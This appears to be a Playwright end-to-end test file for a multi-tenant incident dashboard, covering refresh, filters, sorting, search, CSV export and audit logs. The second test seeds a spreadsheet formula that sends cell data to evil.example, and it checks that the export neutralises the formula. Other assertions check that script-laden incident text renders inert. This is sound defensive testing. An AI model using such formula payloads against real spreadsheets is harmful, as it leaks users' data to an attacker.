import { readFileSync } from "node:fs";

import { expect, test } from "@playwright/test";
import { parse } from "csv-parse/sync";

import { PROSEWARE_TENANT_ID } from "@/tests/support/seed-ids";

import { E2E } from "../stack";
import { raiseIncident } from "../support/incidents";
import { onboardTenant } from "../support/onboarding";
import { signInAs } from "../support/sign-in";

test.use({ permissions: ["clipboard-read", "clipboard-write"] });

const control = `https://localhost:${E2E.emulatorPort}/_emulator/control`;

test("an analyst works the all-tenants queue from the store; hostile incident text stays plain text", async ({ page, browser, request }) => {
  const scripts: string[] = [];
  page.on("dialog", (dialog) => {
    scripts.push(dialog.message());
    void dialog.dismiss();
  });

  await signInAs(page, "Avery Admin");
  await onboardTenant(page, browser, { domain: "proseware.example", name: "Proseware Labs", admin: "admin@proseware.example" });
  await onboardTenant(page, browser, { domain: "woodgrove.example", name: "Woodgrove Bank", admin: "admin@woodgrove.example" });
  await page.getByRole("button", { name: "Sign out" }).click();
  await expect(page.getByRole("button", { name: "Sign in with Microsoft" })).toBeVisible();

  await signInAs(page, "Sam Analyst", "/incidents?range=180d");
  await expect(page.getByRole("heading", { name: "Incidents", exact: true })).toBeVisible();
  // Refresh asks for a sync of every tenant (these two, and Contoso when the keyboard test ran before)
  // and re-renders the page from the store as they answer.
  await page.getByRole("button", { name: "Refresh" }).click();
  await expect(page.getByRole("status").filter({ hasText: "Refreshed" })).toContainText(/Refreshed (\d) of \1 tenants/, { timeout: 30_000 });
  const chips = page.getByRole("list", { name: "Tenant status" });
  await expect(chips.getByText(/Proseware Labs: synced (now|\d+ seconds? ago)/)).toBeVisible();
  await expect(chips.getByText(/Woodgrove Bank: synced (now|\d+ seconds? ago)/)).toBeVisible();
  await expect(page.getByRole("cell", { name: "Woodgrove Bank" }).first()).toBeVisible();
  const total = Number((await page.getByText(/^[\d,]+ incidents$/).innerText()).replace(/\D/g, ""));
  expect(total).toBeGreaterThan(50);
  await expect(page.getByRole("navigation", { name: "Pages" })).toContainText(`Page 1 of ${Math.ceil(total / 50)}`);
  expect(await page.locator("tbody tr").count()).toBe(50);

  // Proseware's incidents carry script tags, event handlers and javascript: URLs in their text.
  const hostile = page.getByRole("row").filter({ hasText: "Proseware Labs" }).filter({ hasText: "<" }).first();
  await expect(hostile).toBeVisible();
  // The incident page reads alerts live, with the token the sync (another bundle of the server) already holds.
  expect((await request.delete(`${control}/counters`)).ok()).toBe(true);
  await hostile.getByRole("link").click();
  await expect(page.getByRole("heading", { name: /Alerts \(\d+\)/ })).toBeVisible();
  await expect(page.locator("article h3").first()).toBeVisible();
  await expect(page.getByRole("link", { name: "Open in Microsoft Defender portal" })).toHaveAttribute("href", /^https:\/\/security\.microsoft\.com\//);
  expect(await page.locator('a[href^="javascript:"]').count()).toBe(0);
  expect(await page.locator("main img, main script, main iframe").count()).toBe(0);
  expect(await page.locator("main").textContent()).toMatch(/<(script|img)/);
  const calls = (await (await request.get(`${control}/counters`)).json()) as { byEndpoint: Record<string, Record<string, number> | undefined> };
  expect(calls.byEndpoint.graph?.[PROSEWARE_TENANT_ID]).toBeGreaterThan(0);
  expect(calls.byEndpoint.token?.[PROSEWARE_TENANT_ID] ?? 0).toBe(0);

  await page.goBack();
  // Several severities at once, and one tenant.
  const severity = page.getByRole("group", { name: /^Severity/ });
  await severity.getByLabel("High").check();
  await severity.getByLabel("Medium").check();
  await page.getByLabel("Tenants").selectOption({ label: "Woodgrove Bank" });
  await page.getByRole("button", { name: "Apply" }).click();
  await expect(page).toHaveURL(/severity=high&severity=medium/);
  const severityCells = page.getByRole("table").first().locator("tbody tr td:nth-child(3)");
  expect(new Set(await severityCells.allInnerTexts())).toEqual(new Set(["High", "Medium"]));
  expect(new Set(await page.getByRole("table").first().locator("tbody tr td:nth-child(2)").allInnerTexts())).toEqual(new Set(["Woodgrove Bank"]));

  // Sorted by a column's header: most severe first, then the other way round; the header says which.
  const header = page.getByRole("columnheader", { name: /^Severity/ });
  await header.getByRole("link").click();
  await expect(header).toHaveAttribute("aria-sort", "descending");
  const bySeverity = await severityCells.allInnerTexts();
  expect(bySeverity).toEqual([...bySeverity].sort((a, b) => ["High", "Medium"].indexOf(a) - ["High", "Medium"].indexOf(b)));
  await header.getByRole("link").click();
  await expect(header).toHaveAttribute("aria-sort", "ascending");
  await expect(severityCells.first()).toContainText("Medium");

  // Back from an incident at the bottom of the list: the list is where the analyst left it.
  const last = page.locator("tbody tr").last().getByRole("link");
  await last.scrollIntoViewIfNeeded();
  const scrolled = await page.evaluate(() => window.scrollY);
  expect(scrolled).toBeGreaterThan(200);
  await last.click();
  await page.waitForURL(/\/incidents\/\d+$/);
  await page.goBack();
  await expect(page.getByRole("columnheader", { name: /^Severity/ })).toHaveAttribute("aria-sort", "ascending");
  await expect.poll(() => page.evaluate(() => window.scrollY)).toBeGreaterThan(scrolled - 50);
  await page.goto("/incidents?range=180d");

  // A new incident raised in Microsoft's portal: the next sync brings it in, and search finds it.
  const raised = await request.post(`${control}/tenants/woodgrove.example/incidents`, { data: { displayName: "Ransomware staged on FINANCE-07", severity: "high" } });
  expect(raised.status()).toBe(201);
  const { id } = (await raised.json()) as { id: string };
  await page.getByLabel("Search").fill("ransomware staged");
  await page.getByRole("button", { name: "Apply" }).click();
  await expect(async () => {
    await page.reload();
    await expect(page.getByRole("link", { name: "Ransomware staged on FINANCE-07" })).toBeVisible({ timeout: 1_000 });
  }).toPass({ timeout: 30_000 });
  await page.getByLabel("Search").fill(id);
  await page.getByRole("button", { name: "Apply" }).click();
  await expect(page.locator("tbody tr")).toHaveCount(1);
  expect(scripts).toEqual([]);
});

test("an analyst exports the queue's view as CSV, every page and only its filters; a formula in a customer's title arrives inert; the export is audited", async ({ page, request }) => {
  // A title chosen by an attacker, which a spreadsheet would run as a formula.
  const report = `Open report ${Date.now()}`;
  const title = `=HYPERLINK("https://evil.example/?d="&A1,"${report}")`;
  await raiseIncident(request, PROSEWARE_TENANT_ID, title, { severity: "high" });
  // In the store after the next sync (a refresh right after one reuses it).
  await signInAs(page, "Sam Analyst", `/incidents?range=180d&q=${encodeURIComponent(report)}`);
  await expect(async () => {
    await page.reload();
    await expect(page.getByRole("link", { name: title })).toBeVisible({ timeout: 1_000 });
  }).toPass({ timeout: 30_000 });

  for (const filter of ["", "&severity=high"]) {
    await page.goto(`/incidents?range=180d${filter}&page=2`);
    const shown = async () => Number((await page.getByText(/^[\d,]+ incidents$/).innerText()).replace(/\D/g, ""));
    const before = await shown();
    const download = page.waitForEvent("download");
    await page.getByRole("link", { name: "Export CSV" }).click();
    const csv = readFileSync((await (await download).path())!, "utf8");
    const [header, ...rows] = parse(csv, { bom: true }) as string[][];
    expect(header.slice(0, 5)).toEqual(["Tenant", "Tenant id", "Incident id", "Title", "Severity"]);
    // The emulator's tenants raise incidents of their own: the export holds what the queue counted then, or a moment later.
    await page.reload();
    expect([before, await shown()]).toContain(rows.length);
    expect(new Set(rows.map(([, tenantId, id]) => `${tenantId}/${id}`)).size).toBe(rows.length);
    if (filter) expect(new Set(rows.map((row) => row[4]))).toEqual(new Set(["high"]));
    expect(rows.find((row) => row[3].includes(report))?.[3]).toBe(`'${title}`);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  }

  // The audit log is an admin's to export.
  expect((await page.context().request.get("/api/audit/export")).status()).toBe(403);
  await page.getByRole("button", { name: "Sign out" }).click();
  await expect(page.getByRole("button", { name: "Sign in with Microsoft" })).toBeVisible();
  await signInAs(page, "Avery Admin", "/audit?action=incidents.exported");
  await expect(page.getByRole("row").filter({ hasText: "Incidents exported (CSV)" }).filter({ hasText: "analyst@northwind-partners.example" })).toHaveCount(2);
  const download = page.waitForEvent("download");
  await page.getByRole("link", { name: "Export CSV" }).click();
  const [header, ...events] = parse(readFileSync((await (await download).path())!, "utf8"), { bom: true }) as string[][];
  expect(header.slice(0, 4)).toEqual(["Time (UTC)", "Who", "What", "Action"]);
  expect(new Set(events.map((event) => `${event[2]} / ${event[3]}`))).toEqual(new Set(["Incidents exported (CSV) / incidents.exported"]));
  const analysts = events.filter((event) => event[1] === "analyst@northwind-partners.example");
  expect(analysts).toHaveLength(2);
  expect(JSON.parse(analysts[0][6])).toMatchObject({ filters: { range: "180d", severity: ["high"] } });
});
